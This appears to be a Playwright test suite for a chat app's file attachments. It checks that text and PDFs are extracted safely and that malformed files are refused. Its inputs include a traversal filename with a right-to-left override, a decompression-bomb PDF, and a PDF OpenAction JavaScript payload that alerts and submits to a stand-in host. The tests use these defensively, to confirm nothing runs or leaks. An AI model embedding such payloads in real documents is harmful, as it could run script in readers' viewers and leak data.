import { readFile, truncate, writeFile } from 'node:fs/promises'
import type { Page } from '@playwright/test'
import { FILE_BYTES_MAX } from '@/lib/documents/domain/document-limits'
import { bombPdfBytes, encryptedPdfBytes, japanesePdfBytes, pdfBytes } from '@/test/support/pdf-bytes'
import { expect, test, type UpstreamControl } from '@/test/support/test'

interface TestFile {
  name: string
  mimeType: string
  buffer: Buffer
}

const pdf = (name: string, buffer: Buffer): TestFile => ({ name, mimeType: 'application/pdf', buffer })
const NOTES = Buffer.from('Coins were struck in Lydia – around 600 BC.\r\n')

function attach(page: Page, file: TestFile | string) {
  return page.locator('form input[type="file"]').setInputFiles(file)
}

const draftsOn = (page: Page) => page.getByRole('list', { name: 'Attached documents' })
const sendOn = (page: Page) => page.getByRole('button', { name: 'Send' })

async function chooseModel(page: Page, name: string) {
  await page.getByRole('combobox', { name: 'Model' }).click()
  await expect(page.getByRole('dialog').getByRole('combobox')).toBeFocused()
  await page.keyboard.type(name)
  await page.keyboard.press('Enter')
  await expect(page.getByRole('combobox', { name: 'Model' })).toContainText(new RegExp(name, 'i'))
}

test.beforeEach(({ upstream }) => upstream.setScript({ chat: { steps: [{ type: 'text', text: 'Read.' }] } }))

/** Waits longer than usual, since reading a file may slow everything down. */
async function expectAnswer(page: Page, count = 1) {
  const answers = page.getByRole('article', { name: 'Assistant message' })
  await expect(answers).toHaveCount(count)
  await expect(answers.last()).toContainText('$', { timeout: 20_000 })
}

/** The content of the last question that reached the upstream. */
async function lastContent(upstream: UpstreamControl): Promise<unknown> {
  const lastRequest = (await upstream.requests()).findLast(({ path }) => path === '/chat/completions')
  const body = lastRequest?.body
  if (typeof body !== 'object' || body === null || !('messages' in body)) return null
  return Array.isArray(body.messages) ? body.messages.at(-1)?.content : null
}

test('an attached text file survives a reload, is sent as text, and can be saved to disk again', async ({
  page,
  funded: _funded,
  upstream,
}) => {
  await page.goto('/')
  await attach(page, { name: '../../notes\u202e.md', mimeType: 'text/markdown', buffer: NOTES })
  await expect(draftsOn(page)).toContainText('notes .md')
  await expect(draftsOn(page)).toContainText('sent as text')
  await expect(page.getByText('1 file attached')).toBeAttached()
  await page.reload()
  await expect(draftsOn(page)).toContainText('notes .md')
  await page.getByRole('textbox', { name: 'Message' }).fill('When?')
  await sendOn(page).click()
  await expectAnswer(page)
  await expect(draftsOn(page)).toHaveCount(0)
  expect(await lastContent(upstream)).toEqual([
    { type: 'text', text: 'When?' },
    {
      type: 'text',
      text: '[Document "notes .md"]\n\nCoins were struck in Lydia – around 600 BC.\n\n\n[End of Document "notes .md"]',
    },
  ])
  const download = page.waitForEvent('download')
  await page
    .getByRole('article', { name: 'Your message' })
    .getByRole('button', { name: 'Save notes .md' })
    .click()
  expect((await download).suggestedFilename()).toBe('notes .md')
  expect(await readFile(await (await download).path())).toEqual(NOTES)

  await page.getByRole('textbox', { name: 'Message' }).fill('And where?')
  await sendOn(page).click()
  await expectAnswer(page, 2)
  const lastRequest = (await upstream.requests()).findLast(({ path }) => path === '/chat/completions')
  expect(JSON.stringify(lastRequest?.body)).toContain('struck in Lydia')
})

test('the text of a PDF is read in a worker that is then terminated, and no script in the PDF runs', async ({
  page,
  funded: _funded,
  upstream,
}) => {
  let dialogCount = 0
  page.on('dialog', dialog => {
    dialogCount += 1
    void dialog.dismiss()
  })
  const foreign: string[] = []
  page.on('request', request => {
    if (request.url().includes('canary.invalid')) foreign.push(request.url())
  })
  await page.goto('/')
  const started = page.waitForEvent('worker')
  const script =
    '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://canary.invalid"\\)) >>'
  await attach(page, pdf('report.pdf', pdfBytes({ pages: ['First page', 'Second page'], catalog: script })))
  await started
  await expect(draftsOn(page)).toContainText('2 pages')
  await expect.poll(() => page.workers().length).toBe(0)
  await sendOn(page).click()
  await expectAnswer(page)
  expect(await lastContent(upstream)).toEqual([
    {
      type: 'text',
      text: '[Document "report.pdf", 2 pages]\n\nFirst page\n\nSecond page\n\n[End of Document "report.pdf"]',
    },
  ])
  expect([dialogCount, foreign]).toEqual([0, []])
})

test('Japanese text in a PDF without an embedded font is read, with character maps from this site', async ({
  page,
  funded: _funded,
  upstream,
}) => {
  const fetched: string[] = []
  page.on('request', request => {
    if (request.url().endsWith('.bcmap')) fetched.push(new URL(request.url()).pathname)
  })
  await page.goto('/')
  await attach(page, pdf('japanese.pdf', japanesePdfBytes()))
  await expect(draftsOn(page)).toContainText('1 page')
  await sendOn(page).click()
  await expectAnswer(page)
  expect(JSON.stringify(await lastContent(upstream))).toContain('日本語')
  expect(fetched.length).toBeGreaterThan(0)
  for (const path of fetched) expect(path).toMatch(/^\/_next\/static\//)
})

test('only the first 300 pages of a PDF of 10,000 pages are read, and the attachment says so', async ({
  page,
  funded: _funded,
  upstream,
}) => {
  test.slow()
  await page.goto('/')
  const pages = Array.from({ length: 10_000 }, (_, index) => `Page ${index + 1}.`)
  await attach(page, pdf('endless.pdf', pdfBytes({ pages })))
  await expect(draftsOn(page)).toContainText('10,000 pages', { timeout: 20_000 })
  await expect(draftsOn(page)).toContainText('beginning only')
  await sendOn(page).click()
  await expectAnswer(page)
  const content = JSON.stringify(await lastContent(upstream))
  expect(content).toContain('Page 300.')
  expect(content).not.toContain('Page 301.')
})

test('only the beginning of a PDF page that decompresses to megabytes is read', async ({ page }) => {
  test.slow()
  await page.goto('/')
  await attach(page, pdf('bomb.pdf', bombPdfBytes()))
  await expect(draftsOn(page)).toContainText('beginning only', { timeout: 20_000 })
  await expect.poll(() => page.workers().length).toBe(0)
})

const whole = pdfBytes({ pages: ['Whole'] })
const REFUSED: readonly [what: string, name: string, bytes: Buffer, reason: string, zeroCount?: number][] = [
  ['encrypted', 'secret.pdf', encryptedPdfBytes(), 'protected by a password'],
  ['cut off in its middle', 'half.pdf', whole.subarray(0, 60), 'damaged or cannot be read'],
  [
    'a zip archive by its bytes',
    'archive.pdf',
    Buffer.from('PK\u0003\u0004 and more'),
    'Text, PDFs and pictures can',
  ],
  [
    'two formats at once',
    'both.pdf',
    Buffer.concat([Buffer.from('GIF89a'), whole]),
    'Text, PDFs and pictures can',
  ],
  ['larger than is read', 'huge.pdf', whole, 'larger than 20 MB', FILE_BYTES_MAX],
  ['a film, however large', 'film.pdf', Buffer.alloc(0), 'cannot be attached', FILE_BYTES_MAX + 1],
  ['empty', 'nothing.pdf', Buffer.alloc(0), 'is empty'],
]

test('hostile and unreadable files are refused, and the reason is shown', async ({ page }) => {
  test.slow()
  await page.goto('/')
  await expect(page.getByRole('button', { name: 'Attach file' })).toBeVisible()
  for (const [what, name, bytes, reason, zeroCount = 0] of REFUSED) {
    // The browser reads it from there; megabytes that are passed to it take seconds.
    const path = test.info().outputPath(name)
    await writeFile(path, bytes)
    await truncate(path, bytes.length + zeroCount)
    await attach(page, path)
    await expect(page.getByRole('status').filter({ hasText: reason }), what).toContainText(name)
    await expect(draftsOn(page)).toHaveCount(0)
  }
  await expect.poll(() => page.workers().length).toBe(0)
})

test('a PDF without text is sent as a whole file, and only to a model that accepts files', async ({
  page,
  funded: _funded,
  upstream,
}) => {
  await page.goto('/')
  await chooseModel(page, 'small')
  const scan = pdfBytes({ pages: [''] })
  await attach(page, pdf('scan.pdf', scan))
  await expect(draftsOn(page)).toContainText('No text can be read in it')
  await page.getByRole('textbox', { name: 'Message' }).fill('What does it say?')
  await expect(sendOn(page)).toBeDisabled()
  await chooseModel(page, 'large')
  await expect(draftsOn(page)).toContainText('sent as a whole file')
  await sendOn(page).click()
  await expectAnswer(page)
  const file = { filename: 'scan.pdf', file_data: `data:application/pdf;base64,${scan.toString('base64')}` }
  expect(await lastContent(upstream)).toEqual([
    { type: 'text', text: 'What does it say?' },
    { type: 'file', file },
  ])
})

test('a PDF with text is sent as a whole file if chosen, and attachments can be removed with the keyboard', async ({
  page,
  funded: _funded,
  upstream,
}) => {
  await page.goto('/')
  await chooseModel(page, 'large')
  await attach(page, pdf('chart.pdf', whole))
  await page.getByRole('checkbox', { name: 'Send the whole file' }).check()
  await attach(page, { name: 'extra.txt', mimeType: 'text/plain', buffer: Buffer.from('Extra') })
  await expect(draftsOn(page).getByRole('listitem')).toHaveCount(2)
  await expect(draftsOn(page)).not.toContainText('Reading')
  await page.getByRole('button', { name: 'Remove extra.txt' }).focus()
  await page.keyboard.press('Enter')
  await expect(draftsOn(page).getByRole('listitem')).toHaveCount(1)
  await sendOn(page).click()
  await expectAnswer(page)
  const file = { filename: 'chart.pdf', file_data: `data:application/pdf;base64,${whole.toString('base64')}` }
  expect(await lastContent(upstream)).toEqual([{ type: 'file', file }])
})

for (const kind of ['drop', 'paste'] as const) {
  test(`a file is attached by ${kind} @phone`, async ({ page }) => {
    await page.goto('/')
    await expect(page.getByRole('button', { name: 'Attach file' })).toBeVisible()
    await page.getByRole('textbox', { name: 'Message' }).evaluate((box, type) => {
      const data = new DataTransfer()
      data.items.add(new File(['name,amount\nAda,1'], 'list.csv', { type: 'text/csv' }))
      const options = { bubbles: true, cancelable: true }
      box.dispatchEvent(
        type === 'drop'
          ? new DragEvent('drop', { ...options, dataTransfer: data })
          : new ClipboardEvent('paste', { ...options, clipboardData: data }),
      )
    }, kind)
    await expect(draftsOn(page)).toContainText('list.csv')
    const width = await page.evaluate(() => [document.documentElement.scrollWidth, window.innerWidth])
    expect(width[0]).toBe(width[1])
  })
}
